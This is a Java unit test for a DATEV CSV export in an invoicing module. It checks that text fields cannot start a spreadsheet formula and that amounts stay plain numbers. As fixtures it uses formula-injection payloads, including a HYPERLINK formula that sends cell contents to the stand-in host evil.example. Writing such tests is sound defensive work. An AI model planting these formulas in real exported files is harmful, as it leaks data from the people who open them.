package de.kmuflow.invoice.internal;

import static org.assertj.core.api.Assertions.assertThat;

import java.math.BigDecimal;
import java.time.Instant;
import java.time.LocalDate;
import java.util.Arrays;
import java.util.UUID;

import org.junit.jupiter.api.Test;

class DatevExportTest {

	@Test
	void textFieldsNeverStartAFormulaAndAmountsStayNumbers() {
		BookingEntity booking = new BookingEntity(UUID.randomUUID(), Instant.parse("2026-03-02T10:00:00Z"));
		booking.amount = new BigDecimal("-119.00");
		booking.currency = "EUR";
		booking.expenseAccount = "4980";
		booking.creditorAccount = "70001";
		booking.invoiceDate = LocalDate.of(2026, 3, 2);
		booking.invoiceNumber = "-SUM(A1)";
		booking.bookingText = "=HYPERLINK(\"https://evil.example/?d=\"&A1,\"Rechnung\")";
		booking.costCentre = "@SUM(1+1)";

		String[] cells = DatevExport.line(booking).split(";", -1);

		// a credit note: the amount is a plain number, its sign in Soll/Haben
		assertThat(cells[0]).isEqualTo("119,00");
		assertThat(cells[1]).isEqualTo("\"H\"");
		assertThat(cells[10]).isEqualTo("\"SUMA1\"");
		assertThat(cells[13]).startsWith("\"'=HYPERLINK(");
		assertThat(cells[36]).isEqualTo("\"'@SUM(1+1)\"");
		assertThat(Arrays.stream(cells).map(cell -> cell.startsWith("\"") ? cell.substring(1) : cell))
			.noneMatch(cell -> !cell.isEmpty() && "=+-@\t\r".indexOf(cell.charAt(0)) >= 0);
	}
}
